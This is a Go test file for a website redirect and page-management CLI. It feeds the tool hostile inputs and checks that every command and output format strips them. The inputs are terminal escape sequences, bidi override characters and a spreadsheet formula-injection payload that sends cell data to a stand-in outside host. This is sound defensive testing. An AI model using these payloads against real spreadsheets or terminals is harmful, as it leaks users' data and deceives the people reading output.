//go:build linux

package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"young-compass/internal/address"
	"young-compass/internal/cli"
	"young-compass/internal/project"
)

// What a hostile source may put into any field: a command of a terminal, a NUL, text turned round, a formula.
const (
	hostileText    = "\x1b]0;pwn\x07\u202eevil\u009b31m\x00\u2028\u2066x"
	hostileFormula = `=HYPERLINK("https://far.example/?"&A1)`
)

// hostileProject is a project in which every field is hostile, gathered from hostile sources or written by hand.
func hostileProject(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	quoted := `"` + hostileText + `"`
	object, err := json.Marshal(map[string]string{"key": "c", "title": hostileFormula + hostileText, "address": "/c.html",
		"=note" + hostileText: hostileFormula, "": "no name", " ": "a space"})
	require.NoError(t, err)
	for name, text := range map[string]string{
		project.PlanFile: "site: {origin: https://skerrywick.example}\nkinds:\n  page: {address: '/{slug}'}\nrules:\n" +
			"  - {from: '/o/{x}', to: '/n/{x}'}\n",
		"pages-source.csv": "key,title,address,\"note" + strings.ReplaceAll(hostileText, "\x00", "") + ";;;;;;\"\n" +
			"a," + strings.ReplaceAll(quoted, "\x00", "") + ",/a.html,\"" + strings.ReplaceAll(hostileFormula, `"`, `""`) + "\"\n",
		"pages-source.json": "[" + string(object) + "]",
		"site/b.html": "<html lang=en><title>" + hostileText + "</title><link rel=alternate hreflang=\"" + hostileText +
			"\" href=\"/x\"><a href=\"/y?" + hostileText + "\">" + hostileText + "</a>",
		"access.log": `192.0.2.1 - - [10/Nov/2026:10:00:00 +0000] "GET /` + "\x1b]0;x\x07\u202e" +
			`?=HYPERLINK=1 HTTP/1.1" 200 10 "-" "` + hostileText + `"` + "\n",
		project.RedirectsFile: "from,to,status,note\n/r," + "/a.html,301," + strings.ReplaceAll(quoted, "\x00", "") + "\n" +
			"/\u202eq,/b\u202e,301,\"" + strings.ReplaceAll(hostileFormula, `"`, `""`) + "\"\n",
		"list.csv":   "from,to\n/\x1bx," + "/\u202ey\n/p\u009b,=1+1\n",
		"text.html":  "<a href=\"/r\">" + hostileText + "</a><a href=\"https://skerrywick.example/\u202eq\">x</a>",
		"steps.csv":  "step,on,mark,note\nannounce,2026-11-01,,x\n",
		"addresses":  "",
		"visits.csv": "address,visits,robots,not_found,last\nhttps://skerrywick.example/a.html,3,0,0,2026-11-01\n",
	} {
		path := filepath.Join(dir, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
		require.NoError(t, os.WriteFile(path, []byte(text), 0o644))
	}
	return dir
}

// clean fails for a text with characters that do something where it is shown.
func cleanText(t *testing.T, text, of string) {
	t.Helper()
	at := strings.IndexFunc(text, address.Hidden)
	if at >= 0 {
		assert.Fail(t, "a hidden character", "%s: %q", of, text[max(0, at-40):min(len(text), at+40)])
	}
}

// No command, in no format, hands on what a hostile source put into a field: not to a terminal, a spreadsheet, a
// program, nor into a file of the project or of a server.
func TestNothingHostileGetsThrough(t *testing.T) {
	dir := hostileProject(t)
	run := func(args ...string) (stdout string, status int) {
		var out, err bytes.Buffer
		status = cli.Main(context.Background(), append([]string{"--project", dir, "--color", "never"}, args...), strings.NewReader(""), &out, &err)
		if args[0] != "relink" || slices.Contains(args, "json") { // else it is a patch, byte for byte
			cleanText(t, out.String(), "stdout of "+strings.Join(args, " "))
		}
		cleanText(t, err.String(), "stderr of "+strings.Join(args, " "))
		return out.String(), status
	}
	in := func(name string) string { return filepath.Join(dir, name) }
	for _, source := range []string{"pages-source.csv", "pages-source.json", "site", "access.log"} {
		run("gather", in(source))
	}
	pages, err := os.ReadFile(in(project.PagesFile))
	require.NoError(t, err)
	for _, key := range []string{"\na,", "\nb,", "\nc,"} {
		assert.Contains(t, string(pages), key, "they were all gathered")
	}
	for _, command := range []string{"pages", "design", "lint", "pair", "coverage", "redirects check", "redirects check list.csv",
		"redirects flatten list.csv", "redirects merge list.csv", "redirects add /\x1bz /\u202ez", "trace /\x1b\u202e /r /o/\u202e",
		"trace /r", "relink text.html", "steps", "propose", "emit nginx", "emit apache", "emit caddy", "emit haproxy", "emit htaccess", "emit php",
		"emit sitemap", "emit robots", "emit head", "gather --compare pages-source.csv", "\x1bx", "trace --\u202ex",
		"gather nowhere\x1b]0;x\x07", "design --only \x1bx"} {
		for _, format := range []string{"table", "json", "csv", "sarif", "junit"} {
			args := strings.Split(command, " ")
			for i, a := range args {
				if _, err := os.Stat(in(a)); err == nil && a != "" && a != "pages" {
					args[i] = in(a)
				}
			}
			out, status := run(append(args, "--format", format)...)
			if format != "csv" || status > 1 || strings.HasPrefix(out, "Usage") || args[0] == "pages" || strings.HasPrefix(command, "redirects flatten") {
				continue
			}
			reader := csv.NewReader(strings.NewReader(out))
			reader.FieldsPerRecord = -1
			rows, err := reader.ReadAll()
			require.NoError(t, err, command)
			for _, row := range rows {
				for _, cell := range row {
					assert.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])), "%s: a formula: %q", command, cell)
				}
			}
		}
	}
	run("design", "--write", "--fail-on", "never")
	require.NoError(t, filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		own := strings.HasPrefix(path, in("out")) || filepath.Base(path) == project.PagesFile || filepath.Base(path) == project.AddressesFile
		if err != nil || d.IsDir() || !own || strings.HasSuffix(path, ".bak") {
			return err
		}
		data, err := os.ReadFile(path)
		if strings.HasSuffix(path, ".csv") { // Unicode that a person may want stays in the project's tables
			assert.False(t, bytes.ContainsAny(data, "\x00\x1b\x07\u009b"), path)
			assert.NotContains(t, string(data), ",=", path)
			return err
		}
		if !bytes.Contains(data, []byte("__halt_compiler")) { // a table of numbers is no text
			cleanText(t, string(data), path)
		}
		return err
	}))
}
